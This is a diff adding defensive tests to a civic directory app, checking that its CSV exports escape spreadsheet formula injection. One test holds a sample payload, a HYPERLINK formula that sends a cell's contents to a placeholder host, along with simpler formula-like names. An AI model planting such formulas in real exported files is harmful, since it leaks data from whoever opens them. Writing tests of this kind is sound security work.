@@ -244,3 +244,24 @@ def test_the_directory_follows_the_hsds_schema_and_every_service_has_its_organis
     organisations = {o["id"] for o in data["organizations"]}
     assert data["services"] and all(s["organization_id"] in organisations for s in data["services"])
     assert len({s["id"] for s in data["services"]}) == len(data["services"])
+
+
+def test_a_title_that_looks_like_a_formula_goes_out_as_text(client, city, neighbourhood, users, directory):
+    """Formula injection: the directory and the counts are opened in spreadsheets by whoever downloads them."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"Aiuto")'
+    market.record_offer(person=None, organisation=directory, kind="time", title=evil, neighbourhoods=[neighbourhood],
+                        by=users[Role.WORKER])
+    directory.name = "@Associazione"
+    directory.save()
+    services = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["services"])).content.decode())))
+    assert "'" + evil in [row["name"] for row in services]
+    organisations = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["organizations"])).content.decode())))
+    assert [row["name"] for row in organisations] == ["'@Associazione"]
+
+
+def test_a_neighbourhood_name_that_looks_like_a_formula_goes_out_as_text_in_the_counts(client, city, signals, neighbourhood):
+    neighbourhood.name = "-1+1"
+    neighbourhood.save()
+    lines = list(csv.reader(io.StringIO(client.get(reverse("insights:open_data_csv"), {"anno": "2025"}).content.decode())))
+    names = {line[1] for line in lines[1:]}
+    assert "'-1+1" in names and "-1+1" not in names
